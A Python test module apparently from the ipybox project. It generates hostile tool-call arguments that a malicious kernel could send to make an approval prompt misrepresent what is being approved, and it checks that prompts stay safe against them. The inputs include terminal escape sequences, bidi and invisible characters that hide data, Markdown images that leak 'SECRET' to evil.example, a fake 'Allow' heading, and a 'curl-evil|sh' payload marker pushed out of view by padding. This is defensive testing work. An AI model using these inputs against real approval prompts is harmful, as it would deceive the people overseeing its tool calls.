"""Tool call arguments a hostile kernel sends to make an approval prompt lie: names and values that
redraw a terminal line, reorder or hide text, act as Markdown where a client renders it, or push
the real payload out of view."""

from __future__ import annotations

import html
import re
import unicodedata
from typing import Any

import mistune

PAYLOAD = "PAYLOAD-curl-evil|sh"
#: Characters no prompt may contain raw: a terminal acts on them or draws nothing for them.
_HIDDEN = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
#: Builds the argument sets a hostile kernel sends (run here and in the kernel, so 10 MB is not
#: shipped as code); each has the payload in an argument of its own.
CASES = r"""
REDRAWS = [
    "\r\x1b[2K",  # carriage return, erase line
    "\x1b[1A\x1b[2K\x1b[10D",  # cursor up, erase, cursor left
    "\x1b[H\x1b[J",  # home, clear screen
    "\x1b]0;title\x07",  # OSC: window title
    "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\",  # OSC 8 hyperlink
    "\x9b2K\x9bH",  # 8-bit CSI (C1)
    "\x08" * 12 + "\x7f",  # backspaces, DEL
]
HIDERS = [
    "\u202egnp.exe\u202c",  # right-to-left override
    "\u2066x\u2069\u2067y\u2069",  # isolates
    "a\u200bb\u200c\u200d\u2060\ufeff",  # zero-width
    "\xad\U000e0041\U000e007f",  # soft hyphen, tag characters
    "line\u2028sep\u2029\x85",  # line/paragraph separators, NEL
    "\u3164\u115f\u2800",  # blank letters
    # marks that draw nothing, carrying data: variation selectors, grapheme joiner, Khmer, Mongolian
    "hi" + "".join(chr(0xE0100 + b) for b in b"sk-SECRET") + "\ufe01\u034f\u17b4\u180b",
    "Z" + "\u0336\u0489" * 40,  # a stack of combining marks smearing over the text around it
]
#: Markdown and HTML a client that renders the question would act on: an image fetched as it is
#: shown (sending data out), links, raw HTML, emphasis, and a fence or heading imitating the question.
MARKUP = [
    "![x](https://evil.example/leak.png?d=SECRET)",
    "<img src=https://evil.example/leak.png> <a href=https://evil.example>Allow</a>",
    "[Allow it?](https://evil.example/) **Allow** https://evil.example/auto",
    "```\n)\n```\nAllow it?\n# Code running in ipybox wants to make this tool call:",
]


def cases(payload):
    made = []
    for bad in REDRAWS + HIDERS + MARKUP:
        made.append({f"message{bad}": "harmless", "p": payload})  # in a name
        made.append({"message": f"harmless{bad}", "p": payload})  # in a value
        made.append({"p": payload, "nested": {f"k{bad}": [bad, {"deep": bad}]}})  # nested JSON
    pad = "A" * 100_000
    made.append({"pad": pad, "p": payload})  # first
    made.append({"message": "hi", "pad": pad, "p": payload})  # middle
    made.append({"p": payload, "message": "hi", "pad": pad})  # last
    made.append({"pad": "\x1b[2K" * 50_000, "p": payload})  # padding made of escapes
    made.append({"pad": {"list": ["B" * 1000] * 200}, "p": payload})  # a long nested value
    made.append({"A" * 100_000: 1, "p": payload})  # a long name
    made.append({"pad": "C" * 10_000_000, "p": payload})  # 10 MB
    # many long names and values, together many screens: before the payload and after it
    many = {f"pad{i:02}" + "x" * 90: "D" * 10_000 for i in range(39)}
    made.append({"p": payload, **many})
    made.append({**many, "p": payload})
    return made
"""


def cases() -> list[dict[str, Any]]:
    """The argument sets, as the kernel makes them."""
    namespace: dict[str, Any] = {}
    exec(CASES, namespace)
    return namespace["cases"](PAYLOAD)  # type: ignore[no-any-return]


def calls(server: str, tool: str) -> str:
    """Kernel code sending each case straight through `ToolRunner` to `server`'s `tool`, refused
    calls ignored (the generated API would refuse such names before asking)."""
    return (
        CASES + f"\nimport mcptools.{server} as pkg\n"
        "from ipybox import ToolRunner\n"
        "from ipybox.tool_exec.client import ApprovalRejectedError\n"
        f"for args in cases({PAYLOAD!r}):\n"
        "    try:\n"
        f"        ToolRunner(pkg.SERVER_NAME, pkg.SERVER_PARAMS).run_sync({tool!r}, args)\n"
        "    except ApprovalRejectedError:\n"
        "        pass\n"
    )


def _invisible_mark(c: str) -> bool:
    """A mark that draws nothing: a variation selector, the grapheme joiner, Khmer's and Mongolian's."""
    return (
        c in "\u034f\u17b4\u17b5\u180b\u180c\u180d\u180f"
        or "\ufe00" <= c <= "\ufe0f"
        or "\U000e0100" <= c <= "\U000e01ef"
    )


def assert_shown_safely(prompt: str, *, lines: bool = False) -> None:
    """No character a terminal acts on or draws nothing for (newlines only where `lines`)."""
    raw = [c for c in prompt if unicodedata.category(c) in _HIDDEN and not (lines and c == "\n")]
    raw += [c for c in prompt if c in "\u3164\u115f\u2800" or _invisible_mark(c)]
    assert not raw, [hex(ord(c)) for c in raw]
    marks = 0
    for c in prompt:
        marks = marks + 1 if unicodedata.combining(c) or unicodedata.category(c) == "Me" else 0
        assert marks <= 2, prompt


#: What Markdown makes of the question when it is only text: paragraphs, one code block.
_PLAIN_TAGS = {"p", "/p", "pre", "/pre", "code", "/code"}


def assert_no_markup(question: str) -> None:
    """`question` rendered as Markdown (mistune, as nbconvert renders it, with GFM's autolinks) is
    text: no image, link, HTML, emphasis or heading, and the kernel's text only in its code block."""
    rendered = mistune.create_markdown(escape=False, plugins=["url", "strikethrough", "table"])(question)
    assert isinstance(rendered, str)
    tags = {tag.split()[0] for tag in re.findall(r"<([^>]+)>", rendered)}
    assert tags <= _PLAIN_TAGS, (tags, rendered)
    blocks = re.findall(r"<pre><code>(.*?)</code></pre>", rendered, re.S)
    assert len(blocks) == 1, f"the call is not in one code block: {rendered}"
    assert html.unescape(blocks[0]).rstrip("\n") in question
